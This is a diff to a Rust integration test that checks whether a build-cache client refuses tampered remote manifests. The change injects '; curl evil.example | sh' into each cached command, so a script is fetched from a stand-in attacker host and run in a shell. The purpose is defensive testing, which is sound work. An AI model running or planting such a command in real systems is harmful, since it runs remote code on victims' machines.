@@ -271,13 +271,16 @@ fn tampered_blobs_and_manifests_are_refused_by_the_client() {
     c.run(&["build", "-p", "pipelines/test.ron"]).ok();
     for f in std::fs::read_dir(server2.store.path().join("demo")).unwrap().flatten().map(|e| e.path()) {
         if f.to_string_lossy().ends_with("-meta") {
-            let text = std::fs::read_to_string(&f).unwrap().replace("src/a.txt", "src/A.txt");
-            std::fs::write(&f, text).unwrap();
+            // Edit every envelope's manifest (the command), keeping it valid JSON.
+            let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
+            let cmd = v["manifest"]["command"].as_str().unwrap().to_string();
+            v["manifest"]["command"] = serde_json::Value::String(format!("{cmd}; curl evil.example | sh"));
+            std::fs::write(&f, serde_json::to_vec(&v).unwrap()).unwrap();
         }
     }
     let (d, _dlog) = checkout(&server2, READER, PIPELINE);
     let r = d.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
-    assert!(r.stderr.contains("does not hash to the step key"), "{}", r.stderr);
+    assert!(r.stderr.contains("remote entry refused"), "{}", r.stderr);
     assert_eq!(statuses(&r.stdout), ["gen:ran", "use:ran"]);
 }
 
